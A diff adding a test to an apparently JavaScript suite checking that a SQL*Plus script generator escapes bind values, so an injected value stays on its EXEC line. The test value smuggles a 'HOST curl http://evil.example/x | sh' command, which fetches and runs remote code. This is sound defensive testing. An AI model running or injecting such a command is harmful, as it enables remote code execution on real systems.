@@ -87,4 +87,11 @@ describe('--dry-run output runs in SQL*Plus as it is', () => {
     const text = sqlplusScript({ dryRun: true, command: 'dcn test', statements: [{ name: 'test', sql: 'BEGIN NULL; END;', plsql: true, binds: { note: "it's R&D", n: 7 } }] });
     expect(checkAsSqlplus(text).assigned).toEqual({ note: "it's R&D", n: '7' });
   });
+
+  it('keeps a value with a newline on its EXEC line: the rest never becomes a command of its own', () => {
+    const value = "x'\nHOST curl http://evil.example/x | sh\n/\r";
+    const text = sqlplusScript({ dryRun: true, command: 'dcn test', statements: [{ name: 'test', sql: 'BEGIN NULL; END;', plsql: true, binds: { note: value } }] });
+    expect(text.split('\n').filter((line) => /^(HOST|\/)/.test(line))).toEqual(['/']); // the one after the block
+    expect(text).toContain("EXEC :note := 'x''' || CHR(10) || 'HOST curl http://evil.example/x | sh' || CHR(10) || '/' || CHR(13)\n");
+  });
 });
